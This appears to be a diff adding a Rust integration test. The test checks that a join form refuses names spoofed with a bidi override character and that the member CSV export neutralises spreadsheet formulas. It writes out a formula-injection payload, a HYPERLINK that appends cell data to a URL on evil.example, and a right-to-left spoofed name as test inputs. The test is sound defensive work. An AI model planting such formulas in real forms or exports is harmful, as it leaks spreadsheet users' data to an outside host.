@@ -1662,3 +1662,51 @@ async fn blank_cards_are_claimed_at_the_counter_or_by_joining() {
     let html = anon.page(&format!("/c/{t3}")).await;
     assert!(has_id(&html, "unclaimed"));
 }
+
+// ---------------------------------------------------------------------------------------------
+// What anyone can type on /join reaches the owner's spreadsheet only as text.
+// ---------------------------------------------------------------------------------------------
+
+#[tokio::test]
+async fn a_formula_typed_on_the_join_form_is_exported_as_text_and_bidi_names_are_refused() {
+    let (server, mut owner, api) = owner_session().await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    let mut joiner = Browser::new(&server);
+    let jf = joiner.join_form("/join").await;
+    let mut spoofer = Browser::new(&server);
+    let sf = spoofer.join_form("/join").await;
+    tokio::time::sleep(HUMAN_PAUSE).await;
+
+    let p = spoofer
+        .submit(&sf, &[("name", "Anna\u{202E}moc.live"), ("email", "")])
+        .await;
+    p.expect(422);
+    assert!(members(&api).await.is_empty(), "nothing was created");
+
+    let p = joiner
+        .submit(
+            &jf,
+            &[
+                ("name", formula),
+                ("email", "formula@example.com"),
+                ("phone", "+44 20 7946 0958"),
+            ],
+        )
+        .await;
+    p.expect(303);
+
+    let csv = owner.get("/admin/members/export.csv").await;
+    csv.expect(200);
+    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let col = |n: &str| headers.iter().position(|h| h == n).unwrap();
+    let row = reader.records().next().expect("one member").unwrap();
+    assert_eq!(&row[col("name")], format!("'{formula}"), "{}", csv.text);
+    assert_eq!(&row[col("phone")], "'+442079460958", "{}", csv.text);
+    for cell in row.iter() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "no cell starts a formula: {cell:?}"
+        );
+    }
+}
